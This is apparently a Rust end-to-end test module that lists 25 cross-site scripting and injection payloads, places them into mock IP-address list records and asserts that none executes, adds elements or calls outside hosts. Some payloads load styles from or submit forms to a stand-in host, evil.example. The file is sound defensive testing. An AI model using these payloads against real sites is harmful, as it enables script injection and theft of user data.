//! Payloads: texts that are harmful as markup, script, URL or style.

use e2e::Page;
use serde_json::{Value, json};

/// Each would set `window.pwned`, add an element or send a request if it were not treated as text. None has collapsible
/// white space or ends in a full stop.
pub(crate) const PAYLOADS: [&str; 25] = [
    "<script>window.pwned = 1</script>",
    "<img src=x onerror=window.pwned=2>",
    "<svg onload=window.pwned=3>",
    "<svg><script>window.pwned=4</script></svg>",
    "\"><script>window.pwned=5</script>",
    "'><img src=x onerror='window.pwned=6'>",
    "\" onmouseover=\"window.pwned=7\" autofocus onfocus=\"window.pwned=7",
    "javascript:window.pwned=8",
    "data:text/html,<script>window.pwned=9</script>",
    "<iframe srcdoc='<script>parent.pwned=10</script>'></iframe>",
    "<a href=javascript:window.pwned=11 id=x autofocus>x</a>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:window.pwned=15'>",
    "<form action=https://evil.example/><input name=key></form>",
    "<details open ontoggle=window.pwned=17><summary>x</summary></details>",
    "<video><source onerror=window.pwned=18></video>",
    "<object data=javascript:window.pwned=19></object>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=20>",
    "</title></textarea></style></script><img src=x onerror=window.pwned=21>",
    "<!--><img src=x onerror=window.pwned=22>-->",
    "&lt;img src=x onerror=window.pwned=23&gt;",
    "{{constructor.constructor('window.pwned=24')()}}${window.pwned=24}",
    "__proto__\u{202e}\\u003cimg src=x onerror=window.pwned=25\\u003e",
];

pub(crate) fn all_in_one() -> String {
    PAYLOADS.join(" ")
}

/// The `number`-th address of a list; an empty text means no machine.
pub(crate) fn item(number: usize, region: &str, machine: &str) -> Value {
    json!({
        "ip": format!("203.0.113.{number}"),
        "region": region,
        "dtCreated": format!("date {number}"),
        "assignedMachineId": machine,
    })
}

/// The `number`-th address, with the `number`-th payload in all its texts.
pub(crate) fn hostile_item(number: usize) -> Value {
    let payload = PAYLOADS[number];
    let mut item = item(number, payload, payload);
    item["dtCreated"] = payload.into();
    item
}

/// A page of the list, with the cursor of the next.
pub(crate) fn list(items: &[Value], cursor: Option<&str>) -> String {
    json!({"hasMore": cursor.is_some(), "items": items, "nextPage": cursor}).to_string()
}

/// Asserts that all payloads stayed text: no script ran, and no element of a payload is in the page.
pub(crate) async fn assert_nothing_ran(page: &Page) {
    let script = "const brought = 'img, iframe, object, video, source, math, details:not(.remedy), form[action], base, a[autofocus], \
            a[href^=javascript], style, script:not([src]), link[href*=evil]'; \
        const handlers = [...document.querySelectorAll('*')] \
            .flatMap((element) => element.getAttributeNames()).filter((name) => name.startsWith('on')); \
        const asked = performance.getEntriesByType('resource').map((entry) => entry.name) \
            .filter((name) => !name.startsWith(location.origin + '/')); \
        return [String(window.pwned), String({}.pwned), \
            [...document.querySelectorAll(brought)].map((element) => element.outerHTML), handlers, asked];";
    let answer = page.evaluate(script).await;
    let nothing = json!(["undefined", "undefined", [], [], []]);
    assert_eq!(answer, nothing, "a payload became more than text");
}
